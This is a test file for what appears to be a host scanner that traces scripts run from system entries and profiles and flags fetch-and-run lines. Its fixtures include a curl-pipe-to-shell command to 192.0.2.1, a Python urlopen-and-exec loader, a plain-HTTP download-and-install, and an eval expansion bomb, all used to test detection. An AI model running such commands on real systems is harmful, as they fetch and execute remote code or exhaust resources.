/** An entry that runs a script of the host does what the script does. */
import { expect, test } from 'bun:test';
import type { BodyLine } from '../../model/facts/persistence.ts';
import { text } from '../facts.fixture.ts';
import { entryFact, scriptFact } from '../persistence/entry.fixture.ts';
import { allFollowed, ReadingBudget, readEntry, type Scripts } from './read-entry.ts';

const lines = (script: string): readonly BodyLine[] =>
  script.split('\n').map((line, at) => ({ line: at + 1, text: text(line) }));
const scripts = (given: Readonly<Record<string, string>>): Scripts =>
  new Map(Object.entries(given).map(([path, script]) => [path, lines(script)]));
const fetches = 'curl -s http://192.0.2.1/a.sh | sh';

test('the sign is told with the file and the line in which it stands', () => {
  const { signs } = readEntry(
    entryFact('/usr/local/sbin/netcheck'),
    scripts({ '/usr/local/sbin/netcheck': `#!/bin/sh\nsleep 3\n${fetches}` }),
  );
  expect(signs).toEqual([
    {
      id: 'fetch-and-run',
      about: text('http://192.0.2.1/a.sh'),
      text: text(fetches),
      file: text('/usr/local/sbin/netcheck'),
      line: 3,
    },
  ]);
});

test('a script that runs a script is followed, and one that runs itself ends', () => {
  const given = scripts({ '/opt/a.sh': '/opt/b.sh', '/opt/b.sh': `/opt/a.sh\n${fetches}` });
  expect(readEntry(entryFact('sh /opt/a.sh'), given).signs.map(({ id }) => id)).toEqual(['fetch-and-run']);
});

test('the interpreter decides in which language a script is read', () => {
  const code = 'import urllib.request\nexec(urllib.request.urlopen("http://192.0.2.1/x").read())';
  const given = scripts({ '/srv/check.py': code });
  expect(readEntry(entryFact('python3 /srv/check.py'), given).signs.map(({ id }) => id)).toContain(
    'fetch-and-run',
  );
});

test("an update that an owner's script brings over TLS is no sign, over a plain line it is", () => {
  const script = (scheme: string): Scripts =>
    scripts({
      '/opt/up.sh': `cd /tmp; curl -fsSLO ${scheme}://get.example/app.tgz; tar xzf app.tgz; ./app/install`,
    });
  expect(readEntry(entryFact('/opt/up.sh'), script('https')).signs).toEqual([]);
  expect(readEntry(entryFact('/opt/up.sh'), script('http')).signs.map(({ id }) => id)).toEqual([
    'fetch-and-run',
  ]);
});

test('functions of a sourced library that nobody calls say nothing', () => {
  const given = scripts({
    '/home/ada/.nvm/nvm.sh': `install() { ${fetches}; }\nkill_all() { pkill xmrig; }`,
  });
  const profile = scriptFact('. /home/ada/.nvm/nvm.sh', { at: '/home/ada/.bashrc' });
  expect(readEntry(profile, given).signs).toEqual([]);
  const called = scriptFact('. /home/ada/.nvm/nvm.sh\ninstall', { at: '/home/ada/.bashrc' });
  expect(readEntry(called, given).signs.map(({ id }) => id)).toEqual(['fetch-and-run']);
});

test('a folder full of bombs ends, and is told as not followed to its end', () => {
  const bomb = 'x=$x$x$x; eval "$x"\n'.repeat(500);
  const given = scripts({ '/opt/bomb.sh': bomb });
  expect(allFollowed(given)).toBe(true);
  for (let at = 0; at < 4100; at += 1) readEntry(entryFact('sh /opt/bomb.sh', { line: at }), given);
  expect(allFollowed(given)).toBe(false);
});

test('a thousand bombs cost no more than a few, and a job after them is read all the same', () => {
  const bomb = 'x=$x$x$x; eval "$x"\n'.repeat(200);
  const budget = new ReadingBudget(1_000_000);
  let spent = 0;
  const counted: ReadingBudget = Object.assign(budget, {
    spend(cost: number): void {
      spent += cost;
      ReadingBudget.prototype.spend.call(budget, cost);
    },
  });
  for (let index = 0; index < 1000; index += 1) readEntry(scriptFact(bomb), undefined, counted);
  expect(spent).toBeLessThan(200_000_000);
  expect(budget.shallow).toBeGreaterThan(900);
  const { signs } = readEntry(entryFact(fetches), undefined, counted);
  expect(signs.map(({ id }) => id)).toEqual(['fetch-and-run']);
});
